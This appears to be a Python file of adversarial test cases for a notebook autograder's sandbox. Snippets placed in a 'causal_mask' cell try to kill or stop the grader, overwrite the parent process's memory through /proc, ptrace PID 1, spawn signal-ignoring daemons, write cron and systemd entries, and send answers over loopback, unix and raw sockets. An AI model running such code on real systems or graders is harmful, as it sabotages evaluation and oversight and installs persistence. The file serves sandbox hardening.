"""Processes and signals, survivors after the run, and the network."""

from autograder.hostile import Attack

WRONG = """
def causal_mask(n_tokens):
    return np.ones((n_tokens, n_tokens), dtype=bool)
"""


def does(name, group, about, source):
    return Attack(name, group, about, cells={"causal_mask": source + WRONG})


def in_call(name, group, about, source):
    lines = "\n    ".join(source.strip().splitlines())
    text = f"def causal_mask(n_tokens):\n    {lines}\n    return None\n"
    return Attack(name, group, about, cells={"causal_mask": text})


PROCESSES, SURVIVORS, NETWORK = "processes and signals", "survivors", "network"
SLEEPER = (
    "import signal, sys; [signal.signal(n, signal.SIG_IGN) for n in (1, 2, 15)]; signal.pause()"
)

ATTACKS = [
    does(
        "kills the grader",
        PROCESSES,
        "sends SIGKILL to the grader by its number",
        """
import os, signal
for target in (@PID@, -@PID@):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
""",
    ),
    does(
        "kills everything",
        PROCESSES,
        "sends SIGKILL to every process it may",
        """
import os, signal
os.kill(-1, signal.SIGKILL)
""",
    ),
    in_call(
        "child kills its parent",
        PROCESSES,
        "the called function kills the kernel it came from",
        """
import os, signal
os.kill(os.getppid(), signal.SIGKILL)
""",
    ),
    in_call(
        "child stops its parent",
        PROCESSES,
        "the called function stops the kernel it came from",
        """
import os, signal
os.kill(os.getppid(), signal.SIGSTOP)
""",
    ),
    in_call(
        "child shuts sockets",
        PROCESSES,
        "the called function shuts the kernel's sockets down",
        """
import os, socket
for name in os.listdir("/proc/self/fd"):
    try:
        one = socket.socket(fileno=os.dup(int(name)))
        if "/j" not in str(one.getpeername()):
            one.shutdown(socket.SHUT_RDWR)
    except OSError:
        pass
""",
    ),
    in_call(
        "child writes its parent's memory",
        PROCESSES,
        "overwrites the kernel through /proc",
        """
import os
with open(f"/proc/{os.getppid()}/mem", "r+b", buffering=0) as memory:
    for thing in (softmax, masked_softmax, attention_scores, np.exp, np.ndarray, len):
        memory.seek(id(thing))
        memory.write(bytes(64))
""",
    ),
    in_call(
        "ptrace",
        PROCESSES,
        "attaches to the kernel and to the first process",
        """
import ctypes, os
libc = ctypes.CDLL(None)
for pid in (os.getppid(), 1):
    libc.ptrace(16, pid, None, None)
    libc.ptrace(8, pid, None, None)
""",
    ),
    does(
        "second kernel",
        PROCESSES,
        "forks in a cell: two kernels share one set of sockets",
        """
import os
os.fork()
""",
    ),
    does(
        "SIGSTOP",
        PROCESSES,
        "stops its own process",
        """
import os, signal
os.kill(os.getpid(), signal.SIGSTOP)
""",
    ),
    does(
        "SIGALRM",
        PROCESSES,
        "an alarm ends the process a second later, when others are judged",
        """
import signal
signal.signal(signal.SIGALRM, signal.SIG_DFL)
signal.setitimer(signal.ITIMER_REAL, 0.5, 0.5)
""",
    ),
    does(
        "plain daemon",
        SURVIVORS,
        "starts a program that ignores signals",
        f"""
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "{SLEEPER}", "@TOKEN@"])
""",
    ),
    does(
        "setsid and double fork",
        SURVIVORS,
        "starts a program in a session of its own, twice",
        f"""
import os, subprocess, sys
subprocess.Popen([sys.executable, "-c", "{SLEEPER}", "@TOKEN@"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "{SLEEPER}", "@TOKEN@"])
    os._exit(0)
""",
    ),
    in_call(
        "daemon from the call",
        SURVIVORS,
        "the called function starts a program that stays",
        f"""
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "{SLEEPER}", "@TOKEN@"], start_new_session=True)
""",
    ),
    does(
        "at, cron and systemd",
        SURVIVORS,
        "asks the system to run a program later",
        """
import os, pathlib, subprocess
for place in ("/etc/cron.d/@TOKEN@", "/var/spool/cron/root", "/etc/systemd/system/x.service"):
    try:
        pathlib.Path(place).write_text("* * * * * root touch /tmp/@TOKEN@")
    except OSError:
        pass
for program in ("at now", "systemd-run touch /tmp/@TOKEN@", "crontab -"):
    subprocess.run(program, shell=True, input=b"* * * * * touch /tmp/@TOKEN@", timeout=5,
                   capture_output=True)
""",
    ),
    does(
        "loopback",
        NETWORK,
        "sends the answers to a listener on this machine's loopback",
        """
import socket
for host in ("127.0.0.1", "localhost", "::ffff:127.0.0.1", "0.0.0.0"):
    try:
        socket.create_connection((host, @PORT@), timeout=2).sendall(b"answers")
    except OSError:
        pass
""",
    ),
    in_call(
        "loopback from the call",
        NETWORK,
        "the called function calls a helper outside",
        """
import socket
try:
    socket.create_connection(("127.0.0.1", @PORT@), timeout=2).sendall(b"inputs")
except OSError:
    pass
""",
    ),
    does(
        "abstract socket",
        NETWORK,
        "connects to a unix socket of the host that has no file",
        """
import socket
one = socket.socket(socket.AF_UNIX)
try:
    one.connect("\\0@ABSTRACT@")
except OSError:
    pass
""",
    ),
    does(
        "other networks",
        NETWORK,
        "asks a name server, the cloud's metadata, netlink and raw sockets",
        """
import socket
for family, kind, address in ((socket.AF_INET, socket.SOCK_DGRAM, ("192.0.2.1", 53)),
                              (socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.2", 80)),
                              (socket.AF_INET, socket.SOCK_RAW, ("127.0.0.1", 0)),
                              (socket.AF_NETLINK, socket.SOCK_RAW, (0, 0))):
    try:
        one = socket.socket(family, kind)
        one.settimeout(1)
        one.connect(address)
        one.send(b"out")
    except (OSError, OverflowError):
        pass
""",
    ),
]
